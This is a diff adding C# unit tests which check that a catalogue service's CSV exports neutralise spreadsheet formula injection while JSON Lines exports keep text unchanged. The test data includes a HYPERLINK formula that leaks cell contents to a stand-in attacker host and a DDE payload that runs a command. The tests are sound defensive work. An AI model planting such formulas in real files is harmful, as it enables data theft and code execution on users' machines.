@@ -270,6 +270,53 @@ public sealed class ExportTests(CatalogueFactory service)
         Assert.Equal((await AllSeriesAsync(client, "MR")).Keys.Order(StringComparer.Ordinal), rows);
     }
 
+    /// <summary>Review, medium: a cohort named as a spreadsheet formula was written as it is into CSV exports, where opening the
+    /// file runs it. CSV neutralises text cells (a leading ' inside quotes, as OWASP advises); JSON Lines keep the text as it is.</summary>
+    [Fact]
+    public async Task Csv_CohortNamedAsFormula_Neutralised()
+    {
+        const string Name = "=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")";
+        const string Description = "@SUM(1+1)*cmd|' /C calc'!A0";
+        await service.DataAsync("""
+            mutation($name: String!, $description: String) { saveCohort(input: { name: $name, description: $description, criteria: { patients: { sex: { eq: "F" } } } }) { cohortId } }
+            """, new { name = Name, description = Description });
+        using var client = service.CreateClient();
+        var document = "{ cohorts { nodes { name description } } }";
+        var csv = await client.GetStringAsync(new Uri(Url(document, "cohorts", "csv"), UriKind.Relative));
+        Assert.Contains("\r\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"x\"\")\",\"'@SUM(1+1)*cmd|' /C calc'!A0\"\r\n", csv, StringComparison.Ordinal);
+        var jsonl = await client.GetStringAsync(new Uri(Url(document, "cohorts", "jsonl"), UriKind.Relative));
+        Assert.Contains(jsonl.Split('\n', StringSplitOptions.RemoveEmptyEntries), l => (string?)JsonNode.Parse(l)!["name"] == Name && (string?)JsonNode.Parse(l)!["description"] == Description);
+    }
+
+    /// <summary>Text that a spreadsheet would run is neutralised in every CSV the service writes (exports and cohort manifests);
+    /// numbers stay numbers, negative ones too.</summary>
+    [Theory]
+    [InlineData("=1+1", "\"'=1+1\"")]
+    [InlineData("+1", "\"'+1\"")]
+    [InlineData("-5", "\"'-5\"")]
+    [InlineData("@SUM(A1)", "\"'@SUM(A1)\"")]
+    [InlineData("\tx", "\"'\tx\"")]
+    [InlineData("\rx", "\"'\rx\"")]
+    [InlineData("a,b", "\"a,b\"")]
+    [InlineData("a=b", "a=b")]
+    [InlineData(-5, "-5")]
+    [InlineData(-1.5, "-1.5")]
+    [InlineData(true, "true")]
+    [InlineData(null, "")]
+    public void CsvCell_FormulaText_NeutralisedNumbersKept(object? value, string cell) => Assert.Equal(cell, CsvText.Cell(value));
+
+    /// <summary>The export's CSV writer writes negative numbers as numbers and neutralises text that looks like one.</summary>
+    [Fact]
+    public async Task CsvWriter_NegativeNumberAndFormulaText_NumberKeptTextNeutralised()
+    {
+        using var output = new MemoryStream();
+        var writer = new CsvExportWriter([new ExportColumn("n", ExportColumnType.Int, false), new ExportColumn("d", ExportColumnType.Float, false), new ExportColumn("s", ExportColumnType.String, false)], output);
+        await writer.BeginAsync(CancellationToken.None);
+        writer.Write([-5, -0.5, "-5"]);
+        await writer.CompleteAsync(CancellationToken.None);
+        Assert.Equal("n,d,s\r\n-5,-0.5,\"'-5\"\r\n", System.Text.Encoding.UTF8.GetString(output.ToArray()));
+    }
+
     private static async Task<Dictionary<string, JsonNode>> AllSeriesAsync(HttpClient client, string? modality)
     {
         var all = new Dictionary<string, JsonNode>(StringComparer.Ordinal);
